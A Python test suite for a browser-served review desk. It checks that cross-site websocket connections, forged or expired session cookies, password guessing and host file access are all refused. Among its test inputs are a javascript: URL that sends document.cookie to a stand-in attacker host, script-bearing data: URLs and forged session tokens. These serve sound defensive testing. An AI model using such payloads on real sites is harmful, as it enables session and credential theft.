"""`deskcheck serve`: who may reach the desk through a browser, and as whom they record.

Every test runs the real server (`python -m deskcheck serve`) on 127.0.0.1 against a real
desk file, and reaches it as a browser would: aiohttp for the requests an attacker's page
could make, headless Chromium for what a reviewer does.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
import time
from pathlib import Path

import aiohttp
import pytest
from itsdangerous import URLSafeTimedSerializer
from yarl import URL

from deskcheck.data import Desk
from tests.conftest import run_process
from tests.serving import serving, worktree_env
from tests.waiting import wait_until

PASSWORD = {"mara": "mara's long passphrase", "tomas": "tomas' own long passphrase"}


def add_logins(desk: Path, *names: str) -> None:
    for name in names:
        result = _cli_with_stdin(desk, ["reviewer", "add", name], PASSWORD[name] + "\n")
        assert result.returncode == 0, result.stderr


def _cli_with_stdin(desk: Path, args: list[str], stdin: str):
    import subprocess
    import sys

    return subprocess.run(
        [sys.executable, "-m", "deskcheck", *args, "--desk", str(desk)],
        input=stdin,
        capture_output=True,
        text=True,
        env=worktree_env(),
        timeout=60,
    )


def browser_session() -> aiohttp.ClientSession:
    # a browser keeps cookies for 127.0.0.1; aiohttp's default jar refuses IP hosts
    return aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True))


async def first_frames(ws: aiohttp.ClientWebSocketResponse, wanted: bytes) -> bytes:
    """What the served app draws, until ``wanted`` shows (or 20 s pass)."""
    await ws.send_json(["resize", {"width": 120, "height": 40}])
    drawn = b""
    deadline = time.monotonic() + 20
    while wanted not in drawn and time.monotonic() < deadline:
        message = await ws.receive(timeout=20)
        if message.type == aiohttp.WSMsgType.BINARY:
            drawn += message.data
        elif message.type != aiohttp.WSMsgType.TEXT:
            break
    return drawn


def sessions_started(desk: Path) -> int:
    with Desk.open(desk, reviewer="check") as opened:
        return opened.db.execute(
            "SELECT count(*) FROM events WHERE kind = 'session.started'"
        ).fetchone()[0]


# -- cross-site: nothing reaches the app without the session cookie and the desk's Origin ----


def test_the_websocket_refuses_other_sites_and_missing_forged_or_expired_sessions(
    sample_path: Path,
) -> None:
    """A web page the reviewer visits can open ws://127.0.0.1:PORT/ws. Before, it got the
    queue and could record under the server's reviewer. Now each of these is refused with
    403 and no app is started for it; the reviewer's own browser still gets the desk."""
    before = sessions_started(sample_path)
    key = sample_path.with_name(sample_path.name + ".serve-key")
    with serving(sample_path) as served:
        # the desk's own serving key, as a cookie thief with the key file would have it
        secret = key.read_bytes() if key.exists() else b"no key: serve keeps none" * 2
        real = URLSafeTimedSerializer(secret, salt="deskcheck-session")
        forged = URLSafeTimedSerializer(b"x" * 32, salt="deskcheck-session")
        old = URLSafeTimedSerializer(secret, salt="deskcheck-session")
        old.signer_kwargs = {}  # a session signed 13 hours ago (sessions last 12)
        expired = _signed_at(old, {"r": "web", "m": "token", "s": ""}, time.time() - 13 * 3600)
        attempts = {
            "a foreign Origin, with a valid session": (
                "http://evil.example",
                real.dumps({"r": "web", "m": "token", "s": ""}),
            ),
            "a look-alike Origin, with a valid session": (
                f"http://127.0.0.1:{served.port}.evil.example",
                real.dumps({"r": "web", "m": "token", "s": ""}),
            ),
            "no Origin, with a valid session": (None, real.dumps({"r": "web", "m": "token"})),
            "the desk's Origin, no cookie": (served.origin, None),
            "the desk's Origin, a forged cookie": (
                served.origin,
                forged.dumps({"r": "web", "m": "token", "s": ""}),
            ),
            "the desk's Origin, an expired cookie": (served.origin, expired),
            "the desk's Origin, a session for another reviewer": (
                served.origin,
                real.dumps({"r": "mallory", "m": "token", "s": ""}),
            ),
        }

        async def attempt(origin: str | None, cookie: str | None) -> int | str:
            headers = {"Origin": origin} if origin else {}
            if cookie:
                headers["Cookie"] = f"deskcheck_session={cookie}"
            async with aiohttp.ClientSession() as session:
                try:
                    async with session.ws_connect(
                        f"{served.origin}/ws", headers=headers, origin=origin
                    ) as ws:
                        drawn = await first_frames(ws, b"Halden")
                        return f"opened, {len(drawn)} bytes of the desk"
                except aiohttp.WSServerHandshakeError as error:
                    return error.status

        outcomes = {
            what: asyncio.run(attempt(origin, cookie))
            for what, (origin, cookie) in attempts.items()
        }
        apps = served.apps()

        async def the_reviewer() -> bytes:
            async with browser_session() as session:
                async with session.get(served.start_url) as page:
                    assert page.status == 200 and "websocket" in await page.text()
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    return await first_frames(ws, b"Halden")

        drawn = asyncio.run(the_reviewer())
    assert outcomes == dict.fromkeys(attempts, 403)
    assert apps == [], "an app was started for a refused connection"
    assert b"Port of Halden" in drawn
    assert sessions_started(sample_path) == before + 1  # the reviewer's, no other


def _signed_at(serializer: URLSafeTimedSerializer, value: object, when: float) -> str:
    signer = serializer.make_signer()
    signer.get_timestamp = lambda: int(when)  # type: ignore[method-assign]
    payload = serializer.dump_payload(value)
    from itsdangerous.encoding import base64_encode

    return signer.sign(base64_encode(payload)).decode()


def test_the_printed_url_works_once_and_the_page_needs_its_session(sample_path: Path) -> None:
    with serving(sample_path) as served:

        async def visit() -> tuple[int, int, int, str]:
            async with (
                aiohttp.ClientSession() as stranger,
                stranger.get(f"{served.origin}/") as page,
            ):
                stranger_status = page.status
            async with (
                browser_session() as session,
                session.get(served.start_url, allow_redirects=False) as first,
            ):
                cookie = first.headers.get("Set-Cookie", "")
            async with browser_session() as later, later.get(served.start_url) as second:
                return stranger_status, first.status, second.status, cookie

        stranger, first, second, cookie = asyncio.run(visit())
        printed = "".join(served.printed)
        served.process.send_signal(2)
        served.process.wait(timeout=10)
        log = served.process.stderr.read().decode()
    assert stranger == 403
    assert first == 303 and second == 403
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie
    token = served.start_url.split("token=")[1]
    assert printed.count(token) == 1  # printed once, for the one who started it
    assert token not in log and cookie.split(";")[0].split("=", 1)[1] not in log
    assert "Traceback" not in log


def test_serving_beyond_this_machine_needs_team_logins(sample_path: Path) -> None:
    result = run_process("serve", "--host", "0.0.0.0", "--desk", str(sample_path))
    assert result.returncode != 0
    assert "without --team" in result.stderr and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    result = run_process("serve", "--team", "--desk", str(sample_path))
    assert result.returncode != 0 and "reviewer add" in result.stderr


# -- team logins -----------------------------------------------------------------------------


def test_reviewer_logins_keep_hashes_only_and_refuse_look_alike_names(sample_path: Path) -> None:
    add_logins(sample_path, "mara")
    again = _cli_with_stdin(sample_path, ["reviewer", "add", "Mara"], "another long one\n")
    look_alike = _cli_with_stdin(sample_path, ["reviewer", "add", "mаra"], "x" * 12 + "\n")
    short = _cli_with_stdin(sample_path, ["reviewer", "add", "ines"], "short\n")
    huge = _cli_with_stdin(sample_path, ["reviewer", "add", "ines"], "y" * 100_000 + "\n")
    assert again.returncode == 1 and "already has a login" in again.stderr
    assert look_alike.returncode == 1 and "only letters a–z" in look_alike.stderr
    assert short.returncode == 1 and "at least 10" in short.stderr
    assert huge.returncode == 1 and "at most 1024" in huge.stderr
    for result in (again, look_alike, short, huge):
        assert "Traceback" not in result.stderr
    changed = _cli_with_stdin(sample_path, ["reviewer", "passwd", "MARA"], "a new passphrase\n")
    disabled = _cli_with_stdin(sample_path, ["reviewer", "disable", "mara"], "")
    assert changed.returncode == 0 and disabled.returncode == 0
    listed = _cli_with_stdin(sample_path, ["reviewer", "list"], "")
    assert listed.stdout.startswith("mara\tdisabled")
    raw = b"".join(p.read_bytes() for p in sample_path.parent.glob("sample.db*"))
    for password in (PASSWORD["mara"], "a new passphrase"):
        assert password.encode() not in raw
    with Desk.open(sample_path, reviewer="check") as desk:
        kinds = [
            row[0]
            for row in desk.db.execute(
                "SELECT kind FROM events WHERE subject = 'reviewer:mara' ORDER BY seq"
            )
        ]
        bodies = " ".join(r[0] for r in desk.db.execute("SELECT body FROM events"))
    assert kinds[-3:] == ["login.added", "login.password_changed", "login.disabled"]
    assert "scrypt$" not in bodies  # not even the hash goes into the event log


def test_team_login_refuses_wrong_passwords_records_them_and_slows_an_address_down(
    sample_path: Path,
) -> None:
    add_logins(sample_path, "mara")
    with serving(sample_path, "--team") as served:

        async def log_in(password: str, origin: str | None = None) -> int:
            async with (
                browser_session() as session,
                session.post(
                    f"{served.origin}/login",
                    data={"name": "mara", "password": password},
                    headers={"Origin": origin or served.origin},
                    allow_redirects=False,
                ) as response,
            ):
                return response.status

        foreign = asyncio.run(log_in(PASSWORD["mara"], origin="http://evil.example"))
        right_first = asyncio.run(log_in(PASSWORD["mara"]))
        wrong = [asyncio.run(log_in(f"guess number {n}")) for n in range(5)]
        right_after = asyncio.run(log_in(PASSWORD["mara"]))
    assert foreign == 403
    assert right_first == 303
    assert wrong == [401] * 5
    assert right_after == 429  # five failures from this address: it must wait
    with Desk.open(sample_path, reviewer="check") as desk:
        failures = list(desk.db["login_failures"].rows)
        kinds = [r[0] for r in desk.db.execute("SELECT kind FROM events ORDER BY seq")]
    assert [(f["name"], f["address"], f["reason"]) for f in failures] == [
        ("mara", "127.0.0.1", "wrong password")
    ] * 5
    assert kinds.count("login.failed") == 5 and kinds.count("login.succeeded") == 1


def test_a_new_password_or_a_disabled_login_ends_the_session(sample_path: Path) -> None:
    add_logins(sample_path, "mara")
    with serving(sample_path, "--team") as served:

        async def logged_in() -> aiohttp.ClientSession:
            session = browser_session()
            async with session.post(
                f"{served.origin}/login",
                data={"name": "Mara", "password": PASSWORD["mara"]},
                headers={"Origin": served.origin},
            ) as response:
                assert response.status == 200 and "websocket" in await response.text()
            return session

        async def page_status(session: aiohttp.ClientSession) -> int:
            async with session.get(f"{served.origin}/", allow_redirects=False) as response:
                return response.status

        async def scenario() -> list[int]:
            statuses = []
            session = await logged_in()
            async with session:
                statuses.append(await page_status(session))
                _cli_with_stdin(sample_path, ["reviewer", "passwd", "mara"], "changed phrase\n")
                statuses.append(await page_status(session))
            PASSWORD["mara"], saved = "changed phrase", PASSWORD["mara"]
            try:
                session = await logged_in()
                async with session:
                    _cli_with_stdin(sample_path, ["reviewer", "disable", "mara"], "")
                    statuses.append(await page_status(session))
            finally:
                PASSWORD["mara"] = saved
            return statuses

        statuses = asyncio.run(scenario())
    assert statuses == [200, 303, 303]  # 303: back to the login page


async def _closed_within(ws: aiohttp.ClientWebSocketResponse, seconds: float) -> bool:
    """True when the server closes the websocket (the app ended) within ``seconds``."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            message = await ws.receive(timeout=max(0.1, deadline - time.monotonic()))
        except TimeoutError:
            continue
        if message.type not in (aiohttp.WSMsgType.BINARY, aiohttp.WSMsgType.TEXT):
            return True
    return ws.closed


def test_a_session_ended_by_logout_or_disable_ends_its_open_tab_and_its_cookie(
    sample_path: Path,
) -> None:
    """Logging out, or the operator disabling a login, ends the session: the cookie copied
    before logout no longer opens the desk, and a tab already open stops recording (it
    went on as the disabled reviewer until its browser closed it)."""
    add_logins(sample_path, "mara")
    with serving(sample_path, "--team") as served:

        async def logged_in() -> aiohttp.ClientSession:
            session = browser_session()
            async with session.post(
                f"{served.origin}/login",
                data={"name": "mara", "password": PASSWORD["mara"]},
                headers={"Origin": served.origin},
            ) as response:
                assert response.status == 200
            return session

        async def scenario() -> tuple[bool, int, bool]:
            async with await logged_in() as session:
                copied = {c.key: c.value for c in session.cookie_jar}
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    await first_frames(ws, b"Halden")
                    async with session.post(
                        f"{served.origin}/logout",
                        headers={"Origin": served.origin},
                        allow_redirects=False,
                    ) as response:
                        assert response.status == 303
                    tab_ended_by_logout = await _closed_within(ws, 15)
            async with browser_session() as thief:  # the cookie as it was before logout
                thief.cookie_jar.update_cookies(copied, response_url=URL(served.origin))
                async with thief.get(f"{served.origin}/", allow_redirects=False) as response:
                    reused = response.status
            async with (
                await logged_in() as session,
                session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws,
            ):
                await first_frames(ws, b"Halden")
                _cli_with_stdin(sample_path, ["reviewer", "disable", "mara"], "")
                tab_ended_by_disable = await _closed_within(ws, 15)
            return tab_ended_by_logout, reused, tab_ended_by_disable

        by_logout, reused, by_disable = asyncio.run(scenario())
    assert reused == 303  # back to the login page, not the desk
    assert by_logout and by_disable


# -- only web links leave the app ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("origin_url", "opened"),
    [
        ("javascript:fetch('//evil.example/?'+document.cookie)", False),
        (" JavaScript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("https://news.example/item/7", True),
    ],
)
def test_o_sends_only_web_links_to_the_browser(
    tmp_path: Path, origin_url: str, opened: bool
) -> None:
    """A feed item's URL becomes a claim's origin; `o` hands it to the browser page, which
    passes it to window.open. Only http and https may get there."""
    desk_path = tmp_path / "desk.db"
    with Desk.open(desk_path, reviewer="tester", create=True) as desk:
        desk.add_claim("The harbour fees will double next year", origin_url=origin_url)
    with serving(desk_path) as served:

        async def press_o() -> tuple[list[str], bytes]:
            async with browser_session() as session:
                async with session.get(served.start_url):
                    pass
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    drawn = await first_frames(ws, b"harbour fees")
                    texts: list[str] = []
                    await ws.send_json(["stdin", "\r"])  # open the claim
                    drawn += await _until(ws, b"Decision", texts)
                    await ws.send_json(["stdin", "o"])
                    wanted = b"Opening" if opened else b"Not opened"
                    drawn += await _until(ws, wanted, texts)
                    return texts, drawn

        texts, drawn = asyncio.run(press_o())
    sent = [json.loads(t) for t in texts if t.startswith('["open_url"')]
    if opened:
        assert [s[1]["url"] for s in sent] == [origin_url]
    else:
        assert sent == []
        assert "Not opened" in _plain(drawn)


def _plain(drawn: bytes) -> str:
    """What the terminal shows, without its colour and cursor sequences."""
    return re.sub(rb"\x1b\[[0-9;?]*[A-Za-z]", b"", drawn).decode("utf-8", "replace")


async def _until(ws: aiohttp.ClientWebSocketResponse, wanted: bytes, texts: list[str]) -> bytes:
    drawn = b""
    deadline = time.monotonic() + 20
    while wanted.decode() not in _plain(drawn) and time.monotonic() < deadline:
        with contextlib.suppress(TimeoutError):
            message = await ws.receive(timeout=max(0.1, deadline - time.monotonic()))
            if message.type == aiohttp.WSMsgType.BINARY:
                drawn += message.data
            elif message.type == aiohttp.WSMsgType.TEXT:
                texts.append(message.data)
            else:
                break
    return drawn


# -- a served app does not outlive its server ---------------------------------------------------


def _process_gone(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except FileNotFoundError:
        return True
    return "State:\tZ" in status  # exited, waiting to be reaped by init


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="needs Linux /proc")
def test_a_served_desk_ends_its_session_when_its_server_dies(sample_path: Path) -> None:
    """Killed without a chance to clean up, the server leaves the app it started for a browser
    behind; that app must notice, end its review session and exit, not hold the desk."""
    with serving(sample_path) as served:

        async def open_in_browser() -> list[int]:
            async with browser_session() as session:
                async with session.get(served.start_url):
                    pass
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    await first_frames(ws, b"Halden")
                    apps = served.apps()
                    served.process.kill()  # only the server: its app is left behind
                    return apps

        with contextlib.suppress(aiohttp.ClientError, asyncio.TimeoutError):
            apps = asyncio.run(open_in_browser())
        assert len(apps) == 1, "the server should have started one app"
        wait_until(lambda: _process_gone(apps[0]), what="the orphaned app to exit", timeout=15)
    with Desk.open(sample_path, reviewer="check") as desk:
        sessions = list(desk.db["review_sessions"].rows_where("reviewer = ?", ["web"]))
    assert sessions and all(s["ended_at"] is not None for s in sessions)


# -- in a real browser: headless Chromium ---------------------------------------------------------


def chromium_or_skip():
    import shutil

    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("Chromium is not installed (Debian: apt install chromium; .ci/run does)")
    sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
    return chromium, sync_api


CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


class Screen:
    """One browser tab on the served desk: what its websocket drew, and keys to type."""

    def __init__(self, page) -> None:
        self.page = page
        self.drawn: list[str] = []
        page.on(
            "websocket",
            lambda ws: ws.on(
                "framereceived",
                lambda frame: self.drawn.append(
                    frame if isinstance(frame, str) else frame.decode("utf-8", "replace")
                ),
            ),
        )

    def mark(self) -> int:
        return len(self.drawn)

    def shown(self, since: int) -> str:
        """What was drawn since ``since``, without colour and cursor sequences (a line drawn
        in styled pieces is then one text)."""
        return _plain("".join(self.drawn[since:]).encode("utf-8"))

    def wait_for(self, text: str, since: int = 0, seconds: float = 30) -> None:
        deadline = time.monotonic() + seconds
        while text not in self.shown(since):
            if time.monotonic() > deadline:
                self.page.screenshot(path="/tmp/failed-screen.png")
                raise AssertionError(f"{text!r} was not drawn in {seconds} s")
            self.page.wait_for_timeout(50)

    def wait_for_any(self, *texts: str, since: int = 0, seconds: float = 30) -> str:
        deadline = time.monotonic() + seconds
        while not (found := [t for t in texts if t in self.shown(since)]):
            if time.monotonic() > deadline:
                raise AssertionError(f"none of {texts} was drawn in {seconds} s")
            self.page.wait_for_timeout(50)
        return found[0]

    def keys(self, *keys: str) -> None:
        for key in keys:
            self.page.keyboard.press(key)


def log_in(browser, origin: str, name: str, password: str) -> Screen:
    context = browser.new_context(viewport={"width": 1800, "height": 900})
    page = context.new_page()
    screen = Screen(page)
    page.goto(f"{origin}/")
    assert page.url == f"{origin}/login"
    page.fill("input[name=name]", name)
    page.fill("input[name=password]", password)
    page.click("button[type=submit]")
    screen.wait_for("Port of Halden")
    page.click("#terminal")
    return screen


def open_claim_one(screen: Screen) -> None:
    """Search the queue for the worked case and open it, with the keyboard."""
    mark = screen.mark()
    screen.keys("/")
    screen.wait_for("search claims", since=mark)  # the search box is open and focused
    screen.page.keyboard.type("Anthropic")
    mark = screen.mark()
    screen.keys("Enter")
    screen.wait_for("1 shown", since=mark)
    mark = screen.mark()
    screen.keys("Enter")
    screen.wait_for("heavier", since=mark)


def record_lead(
    screen: Screen, rationale: str, *, publish: bool = False, after_another: bool = False
) -> None:
    mark = screen.mark()
    screen.keys("d")
    screen.wait_for("Record a decision", since=mark)
    screen.keys("1", "Enter")  # verdict 1 (lead), then on to the rationale
    screen.page.keyboard.type(rationale)
    if publish:
        screen.keys("Tab", "Tab", "ArrowDown")  # confidence stays; "for publication"
    mark = screen.mark()
    screen.keys("Control+s")
    if after_another:
        # the other reviewer's decision is shown first, unless this screen already reloaded
        # with it (the desk notices another reviewer's write within a second or two)
        seen = screen.wait_for_any("record mine anyway", "Decision recorded", since=mark)
        if seen == "record mine anyway":
            mark = screen.mark()
            screen.keys("y")
    screen.wait_for("Decision recorded", since=mark)


def decisions_shown(desk: Path) -> list[tuple[str, str]]:
    shown = run_process("show", "1", "--json", "--desk", str(desk))
    assert shown.returncode == 0, shown.stderr
    return [(d["reviewer"], d["rationale"]) for d in json.loads(shown.stdout)["decisions"]]


# Typing straight on after Enter on the verdict list once lost the rationale's first letters
# ("greed: still a lead"); deskcheck.ui.key_gate hands each key on only when the one before
# has finished (tests/ui/test_typing_ahead.py sends every key at once).
def test_two_reviewers_in_two_browsers_record_under_their_own_names(
    sample_path: Path, tmp_path: Path
) -> None:
    chromium, sync_api = chromium_or_skip()
    add_logins(sample_path, "mara", "tomas")
    with (
        serving(sample_path, "--team", reviewer="operator") as served,
        sync_api.sync_playwright() as playwright,
    ):
        browser = playwright.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            mara = log_in(browser, served.origin, "mara", PASSWORD["mara"])
            tomas = log_in(browser, served.origin, "Tomas", PASSWORD["tomas"])
            open_claim_one(mara)
            open_claim_one(tomas)
            seen_by_tomas = tomas.mark()
            record_lead(mara, "Held as a lead from the browser")
            # tomas's desk shows mara's decision before he opens his form (typing while the
            # live desk refreshes the claim beneath an open form can lose keys: a known bug)
            tomas.wait_for("Held as a lead from the browser", since=seen_by_tomas)
            record_lead(tomas, "Agreed: still a lead", after_another=True)
            stranger = browser.new_context().new_page()
            stranger.goto(f"{served.origin}/")
            stranger_url, stranger_text = stranger.url, stranger.inner_text("body")
            mara.page.screenshot(path=str(tmp_path / "mara.png"))
        finally:
            browser.close()
    assert stranger_url == f"{served.origin}/login" and "Password" in stranger_text
    assert (tmp_path / "mara.png").stat().st_size > 10_000  # a drawn page, not a blank one
    decided = decisions_shown(sample_path)
    assert ("mara", "Held as a lead from the browser") in decided
    assert ("tomas", "Agreed: still a lead") in decided
    with Desk.open(sample_path, reviewer="check") as desk:
        events = [
            (row[0], json.loads(row[1]).get("via"))
            for row in desk.db.execute(
                "SELECT actor, body FROM events WHERE kind = 'decision.recorded'"
                " ORDER BY seq DESC LIMIT 2"
            )
        ]
    assert sorted(events) == [
        ("mara", {"address": "127.0.0.1", "through": "serve"}),
        ("tomas", {"address": "127.0.0.1", "through": "serve"}),
    ]


def test_with_the_two_person_rule_a_login_cannot_confirm_its_own_decision(
    sample_path: Path,
) -> None:
    chromium, sync_api = chromium_or_skip()
    add_logins(sample_path, "mara", "tomas")
    assert (
        run_process("setting", "two_person_rule", "true", "--desk", str(sample_path)).returncode
        == 0
    )
    with (
        serving(sample_path, "--team", reviewer="operator") as served,
        sync_api.sync_playwright() as playwright,
    ):
        browser = playwright.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            mara = log_in(browser, served.origin, "mara", PASSWORD["mara"])
            open_claim_one(mara)
            record_lead(mara, "For publication, pending a second look", publish=True)
            mark = mara.mark()
            mara.keys("y")  # mara confirms mara's decision
            mara.wait_for("different", since=mark)
            tomas = log_in(browser, served.origin, "tomas", PASSWORD["tomas"])
            open_claim_one(tomas)
            mark = tomas.mark()
            tomas.keys("y")
            tomas.wait_for("Decision confirmed", since=mark)
        finally:
            browser.close()
    with Desk.open(sample_path, reviewer="check") as desk:
        confirmations = [
            row[0]
            for row in desk.db.execute(
                "SELECT reviewer FROM decisions WHERE confirms_decision_id IS NOT NULL"
            )
        ]
    assert confirmations == ["tomas"]


# -- a reviewer in a browser cannot reach the host's files ----------------------------------------


def test_from_the_browser_no_file_on_the_host_is_read_or_written(tmp_path: Path) -> None:
    """Under `serve` the reviewer is at another machine: ingesting a file path would read
    the server's files into claims, and an export would write wherever they typed."""
    desk_path = tmp_path / "desk.db"
    secret = tmp_path / "host-secret.csv"
    secret.write_text("text\nthe server's private line\n", encoding="utf-8")
    with Desk.open(desk_path, reviewer="tester", create=True) as desk:
        desk.add_claim("The harbour fees will double next year")
    with serving(desk_path) as served:

        async def try_files() -> None:
            async with browser_session() as session:
                async with session.get(served.start_url):
                    pass
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    texts: list[str] = []
                    await first_frames(ws, b"harbour fees")
                    await ws.send_json(["stdin", "I"])
                    await _until(ws, b"Ingest claims", texts)
                    await ws.send_json(["stdin", str(secret)])
                    await _until(ws, secret.name.encode(), texts)
                    await ws.send_json(["stdin", "\x13"])  # ctrl+s
                    refused = _plain(await _until(ws, b"Not from the browser", texts))
                    assert "Not from the browser: ingesting a" in refused
                    await ws.send_json(["stdin", "\x1b"])  # dismiss anything left open
                    await ws.send_json(["stdin", "\r"])
                    await _until(ws, b"Decision", texts)
                    await ws.send_json(["stdin", "x"])
                    # the ingest refusal may still be on screen: wait for the export's own
                    wanted = b"Not from the browser: an export"
                    refused = _plain(await _until(ws, wanted, texts))
                    assert wanted.decode() in refused

        asyncio.run(try_files())
    with Desk.open(desk_path, reviewer="check") as desk:
        texts = [row[0] for row in desk.db.execute("SELECT text FROM claims")]
    assert texts == ["The harbour fees will double next year"]


def test_malformed_and_huge_messages_do_not_break_the_desk(sample_path: Path) -> None:
    """A logged-in page that sends garbage, an absurd screen size or a megabyte at once:
    the desk keeps drawing at a sane size, and an oversized message ends only that
    connection."""
    with serving(sample_path) as served:

        async def abuse() -> tuple[str, bool, bytes]:
            async with browser_session() as session:
                async with session.get(served.start_url):
                    pass
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    texts: list[str] = []
                    await first_frames(ws, b"Halden")
                    await ws.send_str("not json at all")
                    await ws.send_str('{"stdin": 1}')
                    await ws.send_json(["resize", {"width": 10**9, "height": 10**9}])
                    await ws.send_json(["stdin", "?"])  # the help: the app still answers
                    after = _plain(await _until(ws, b"Help", texts))
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    await first_frames(ws, b"Halden")
                    await ws.send_str("x" * (1024 * 1024))
                    deadline = time.monotonic() + 20
                    while time.monotonic() < deadline:  # the app may still be drawing
                        message = await ws.receive(timeout=20)
                        if message.type not in (aiohttp.WSMsgType.BINARY, aiohttp.WSMsgType.TEXT):
                            break
                    closed = ws.closed or message.type not in (
                        aiohttp.WSMsgType.BINARY,
                        aiohttp.WSMsgType.TEXT,
                    )
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    again = await first_frames(ws, b"Halden")
            return after, closed, again

        after, closed, again = asyncio.run(abuse())
    assert "Help" in after
    assert closed
    assert b"Port of Halden" in again
